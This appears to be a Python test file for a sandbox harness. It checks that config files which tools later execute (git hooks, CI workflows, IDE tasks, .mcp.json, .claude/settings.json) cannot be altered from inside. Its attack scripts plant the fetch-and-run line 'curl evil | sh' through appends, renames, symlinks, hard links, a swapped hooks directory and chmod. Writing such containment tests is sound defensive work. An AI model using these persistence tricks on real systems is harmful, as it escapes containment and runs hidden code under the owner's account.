"""Deferred execution: what is written inside and runs later outside, as the owner."""

from __future__ import annotations

import shutil
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from tests.conftest import Arena, Done

READ_ONLY = "changes of what is shown read-only"
EVIL = "curl evil | sh"

# Names that are there at the start and that something outside runs or obeys.
OBEYED = (
    ".git/hooks/pre-commit",
    ".git/config",
    ".vscode/tasks.json",
    ".idea/workspace.xml",
    ".devcontainer/devcontainer.json",
    ".github/workflows/build.yml",
    ".gitlab-ci.yml",
    ".envrc",
    ".husky/pre-push",
    ".pre-commit-config.yaml",
    ".npmrc",
    ".mcp.json",
    ".claude/settings.json",
    ".cargo/config.toml",
    "packages/api/.vscode/tasks.json",
)


def test_files_that_run_later(arena: Arena) -> None:
    """Appended to, replaced by a rename, removed: plainly every one changes, inside none."""
    victims = [arena.workspace / name for name in OBEYED]

    def restore() -> None:
        for victim in victims:
            victim.unlink(missing_ok=True)
            arena.write(victim, "kept")

    restore()
    script = "\n".join(
        f"echo '{EVIL}' >> {name}; echo '{EVIL}' > new; mv -f new {name}; rm -f {name}" for name in OBEYED
    )
    changed: list[str] = []

    def effect(_: Done) -> bool:
        changed[:] = [str(path) for path in victims if not path.exists() or path.read_text() != "kept"]
        return bool(changed)

    plain = arena.plain(script)
    assert effect(plain)
    assert len(changed) == len(victims)
    restore()
    arena.attack(script, effect=effect, restore=restore, unseen=READ_ONLY)


def test_a_directory_of_hooks_put_in_place_of_another(arena: Arena) -> None:
    victim = arena.write(arena.workspace / ".git" / "hooks" / "pre-commit", "kept")

    def restore() -> None:
        shutil.rmtree(arena.workspace / ".git")
        shutil.rmtree(arena.workspace / "aside", ignore_errors=True)
        arena.write(victim, "kept")

    arena.attack(
        f"mkdir -p mine; echo '{EVIL}' > mine/pre-commit; mv .git/hooks aside; mv mine .git/hooks",
        effect=lambda _: not victim.exists() or victim.read_text() != "kept",
        restore=restore,
        unseen=READ_ONLY,
    )


def test_a_hook_added_to_those_that_are_there(arena: Arena) -> None:
    arena.write(arena.workspace / ".git" / "hooks" / "pre-commit", "kept")
    added = arena.workspace / ".git" / "hooks" / "post-checkout"
    arena.attack(
        f"echo '{EVIL}' > .git/hooks/post-checkout",
        effect=lambda _: added.exists(),
        restore=lambda: added.unlink(missing_ok=True),
        unseen=READ_ONLY,
    )


def test_a_hook_written_through_a_link(arena: Arena) -> None:
    victim = arena.write(arena.workspace / ".git" / "hooks" / "pre-commit", "kept")
    (arena.workspace / "innocent").symlink_to(".git/hooks/pre-commit")
    arena.attack(
        f"echo '{EVIL}' > innocent",
        effect=lambda _: victim.read_text() != "kept",
        restore=lambda: void(victim.write_text("kept")),
        unseen=READ_ONLY,
    )


def test_a_hook_written_through_a_second_name(arena: Arena) -> None:
    victim = arena.write(arena.workspace / ".git" / "hooks" / "pre-commit", "kept")
    second = arena.workspace / "innocent"

    def restore() -> None:
        second.unlink(missing_ok=True)
        victim.write_text("kept")

    arena.attack(
        f"ln .git/hooks/pre-commit innocent; echo '{EVIL}' > innocent",
        effect=lambda _: victim.read_text() != "kept",
        restore=restore,
        unseen=READ_ONLY,
    )


def test_a_hook_made_executable(arena: Arena) -> None:
    victim = arena.write(arena.workspace / ".git" / "hooks" / "pre-commit.off", "kept")
    victim.chmod(0o600)
    arena.attack(
        "chmod 777 .git/hooks/pre-commit.off",
        effect=lambda _: victim.stat().st_mode & 0o111 != 0,
        restore=lambda: victim.chmod(0o600),
        unseen=READ_ONLY,
    )


def void(_: object) -> None:
    """Takes a result that nobody needs."""
